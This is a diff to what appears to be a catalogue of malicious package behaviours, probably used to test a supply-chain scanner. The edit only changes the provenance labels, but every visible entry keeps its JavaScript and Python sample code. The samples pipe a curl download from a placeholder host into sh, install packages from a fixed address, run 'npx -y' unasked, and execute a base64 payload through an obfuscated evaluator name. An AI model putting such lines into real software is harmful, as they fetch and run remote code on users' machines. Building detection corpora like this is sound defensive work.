@@ -65,7 +65,7 @@ BEHAVIOURS: tuple[Behaviour, ...] = (
     behaviour(
         "download-to-shell",
         "pipes a download to a shell",
-        "PyPI collection of 2023-24, npm collection of 2025",
+        "PyPI collection of 2023-24",
         HELD_BY_ITSELF,
         js=f"require('child_process').exec('curl -s {HOST}/x | sh');\n",
         py=f"import subprocess\nsubprocess.Popen('curl -s {HOST}/x | sh', shell=True)\n",
@@ -81,7 +81,7 @@ BEHAVIOURS: tuple[Behaviour, ...] = (
     behaviour(
         "clone-run",
         "clones a repository and runs a script of it",
-        "npm collection of 2025",
+        "a plain variant of what was seen",
         HELD_BY_ITSELF,
         js=(
             "const { execSync } = require('child_process');\n"
@@ -103,7 +103,7 @@ BEHAVIOURS: tuple[Behaviour, ...] = (
     behaviour(
         "install-from-address",
         "installs a package from a fixed address",
-        "PyPI collection of 2023-24, npm collection of 2025",
+        "PyPI collection of 2023-24",
         HELD_BY_ITSELF,
         js=f"require('child_process').execSync('npm i {HOST}/tool.tgz');\n",
         py=f"import subprocess\nimport sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', '{HOST}/tool.tar.gz'])\n",
@@ -119,7 +119,7 @@ BEHAVIOURS: tuple[Behaviour, ...] = (
     behaviour(
         "package-run-unasked",
         "runs another package of the registry without a question",
-        "npm collection of 2025",
+        "a plain variant of what was seen",
         ALWAYS_TOLD,
         js="require('child_process').execSync('npx -y twins-helper');\n",
         py="import subprocess\nimport sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'twins-helper'])\n",
@@ -146,7 +146,7 @@ BEHAVIOURS: tuple[Behaviour, ...] = (
     behaviour(
         "computed-evaluator",
         "reaches the evaluator by a computed name and gives it a hidden payload",
-        "npm collection of 2025, PyPI collection of 2023-24",
+        "event-stream (2018), PyPI collection of 2023-24",
         HELD_BY_ITSELF,
         js=f"[]['filter']['const' + 'ructor'](Buffer.from('{_b64(_JS_MARK)}', 'base64').toString())();\n",
         py=f"getattr(__import__('builtins'), 'ex' + 'ec')(__import__('base64').b64decode('{_b64(_PY_MARK)}'))\n",
@@ -177,7 +177,7 @@ BEHAVIOURS: tuple[Behaviour, ...] = (
     behaviour(
         "fetched-to-interpreter",
         "gives what it fetches to the standard input of an interpreter",
-        "npm collection of 2025",
+        "a plain variant of what was seen",
         HELD_BY_ITSELF,
         js=(
             "const { spawn } = require('child_process');\n"
@@ -202,7 +202,7 @@ BEHAVIOURS: tuple[Behaviour, ...] = (
     behaviour(
         "data-file-evaluated",
         "evaluates a text of a data file that it ships",
-        "npm collection of 2025, PyPI collection of 2023-24",
+        "event-stream (2018), PyPI collection of 2023-24",
         HELD_BY_ITSELF,
         js=(
             "const fs = require('fs');\nconst path = require('path');\n"
